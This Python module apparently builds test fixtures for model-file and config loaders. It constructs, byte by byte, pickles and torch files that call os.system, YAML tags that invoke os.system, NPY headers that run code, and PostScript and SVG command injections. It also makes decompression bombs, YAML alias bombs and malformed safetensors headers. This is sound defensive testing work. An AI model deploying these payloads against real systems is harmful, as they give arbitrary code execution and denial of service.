"""The bytes of hostile files, put together by hand: nothing here loads or runs any of them.

A pickle is a program whose opcodes call what they name; those here call `os.system` with a command.
Written from the formats' own descriptions: Python's pickletools, NumPy's NPY, safetensors' header.
"""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Mapping

__all__ = [
    "archive_of",
    "arrays",
    "lying_safetensors",
    "pickles",
    "pictures",
    "settings",
    "torch_files",
]

_SYSTEM = b"cposix\nsystem\n"
_TORCH_MAGIC = bytes.fromhex("6cfc9c46f9206aa85019")  # of files before zip
_HUGE = 2**40


def pickles(command: str) -> dict[str, bytes]:
    """A pickle of each protocol that runs the command when it is loaded."""
    text = command.encode()
    short = bytes([len(text)]) + text
    unicode = b"X" + struct.pack("<I", len(text)) + text
    framed = b"\x8c\x05posix\x8c\x06system\x93" + unicode + b"\x85R."
    return {
        "pickle-0": _SYSTEM + b"(S" + repr(command).encode() + b"\ntR.",
        "pickle-1": b"(" + _SYSTEM + b"(U" + short + b"tRt.",
        "pickle-2": b"\x80\x02" + _SYSTEM + b"U" + short + b"\x85R.",
        "pickle-3": b"\x80\x03" + _SYSTEM + unicode + b"\x85R.",
        "pickle-4": b"\x80\x04\x95" + struct.pack("<Q", len(framed)) + framed,
        "pickle-5": b"\x80\x05\x95" + struct.pack("<Q", len(framed)) + framed,
    }


def archive_of(members: Mapping[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip of members by name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def torch_files(command: str) -> dict[str, bytes]:
    """Files as `torch.save` writes them, of today and before, whose pickles run the command."""
    inner = pickles(command)["pickle-2"]
    number = b"\x80\x02\x8a" + bytes([len(_TORCH_MAGIC)]) + _TORCH_MAGIC + b"."
    return {
        "torch-zip": archive_of({"a/data.pkl": inner, "a/version": b"3\n"}),
        "torch-script": archive_of(
            {"a/constants.pkl": inner, "a/data.pkl": inner, "a/code/__torch__.py": b""}
        ),
        "torch-legacy": number + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + inner,
    }


def arrays(command: str) -> dict[str, bytes]:
    """Files named as arrays that hold objects, code or more than there is."""
    inner = pickles(command)["pickle-2"]
    code = f"{{'descr': '<f4', 'fortran_order': __import__('os').system({command!r}), 'shape': ()}}"
    return {
        "npy-objects": _npy(_header("|O", (1,))) + inner,
        "npy-code-in-header": _npy(code),
        "npy-huge": _npy(_header("<f4", (_HUGE, 4, 8, 8))),
        "npy-negative": _npy(_header("<f4", (-1, 4, 8, 8))) + bytes(64),
        "npy-deep-header": _npy("(" * 9000 + ")" * 9000),
    }


def _header(kind: str, shape: tuple[int, ...]) -> str:
    return f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}"


def _npy(header: str) -> bytes:
    """A file of NPY 2.0 without its values."""
    line = header.encode() + b"\n"
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(line)) + line


def lying_safetensors() -> dict[str, bytes]:
    """Files of tensors whose headers say what is not so."""
    tensor = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    twice = '{{"a": {0}, "a": {0}}}'.format(json.dumps(tensor))
    return {
        "tensors-empty": b"",
        "tensors-endless-header": struct.pack("<Q", _HUGE) + b"{}",
        "tensors-huge-shape": _tensors({"a": tensor | {"shape": [_HUGE]}}),
        "tensors-overflowing-shape": _tensors({"a": tensor | {"shape": [2**33, 2**33]}}),
        "tensors-offsets-outside": _tensors({"a": tensor | {"data_offsets": [0, _HUGE]}}),
        "tensors-offsets-backwards": _tensors({"a": tensor | {"data_offsets": [8, 0]}}),
        "tensors-overlapping": _tensors({"a": tensor, "b": tensor}),
        "tensors-trailing-bytes": _tensors({"a": tensor}) + b"more",
        "tensors-twice-a-key": struct.pack("<Q", len(twice)) + twice.encode() + bytes(8),
        "tensors-deep-header": struct.pack("<Q", 200_000) + b"[" * 200_000,
    }


def _tensors(header: dict[str, object]) -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + bytes(8)


def settings(command: str) -> dict[str, str]:
    """Settings in YAML that would run the command, or grow without end."""
    call = f"[{command!r}]"
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n"
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    nested = "a0: &a0 {k: v}\n" + "".join(
        f"a{n}: &a{n} {{x: *a{n - 1}, y: *a{n - 1}}}\n" for n in range(1, 40)
    )
    return {
        "yaml-apply": f"model: !!python/object/apply:os.system {call}\n",
        "yaml-new": f"model: !!python/object/new:os.system {call}\n",
        "yaml-new-state": "model: !!python/object/new:type {args: [x, [], {}], state: {}}\n",
        "yaml-object": "model: !!python/object:os._Environ {}\n",
        "yaml-name": "model: !!python/name:os.system\n",
        "yaml-module": "model: !!python/module:os\n",
        "yaml-tuple": "model: !!python/tuple [1]\n",
        "yaml-list-bomb": bomb,
        "yaml-group-bomb": nested,
        "yaml-endless-alias": "model: &m {router: *m}\n",
        "yaml-deep": "model: " + "[" * 100_000,
        "yaml-deep-groups": "".join(f"{' ' * n}k:\n" for n in range(600)),
        "yaml-huge": "model:\n" + "  width: 8\n" * 100_000,
        "yaml-huge-number": f"model: {{width: 0x{'f' * 200_000}}}\n",
        "yaml-many-keys": "".join(f"k{n}: 1\n" for n in range(10_000)),
        "yaml-null-bytes": "model: {width: \0}\n",
        "yaml-twice-a-key": "model: {}\nmodel: {}\n",
    }


def pictures(command: str) -> dict[str, bytes]:
    """Files named as images that are programs, or would be far larger than they look."""
    size = struct.pack(">IIBBBBB", 2**16, 2**16, 8, 2, 0, 0, 0)
    head = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + size
    return {
        "picture-pickle": pickles(command)["pickle-2"],
        "picture-postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n"
        + f"(%pipe%{command}) (r) file\n".encode(),
        "picture-vector": f"<svg onload={command!r}/>".encode(),
        "picture-script": f"#!/bin/sh\n{command}\n".encode(),
        "picture-bomb": head + struct.pack(">I", zlib.crc32(b"IHDR" + size)) + bytes(64),
    }
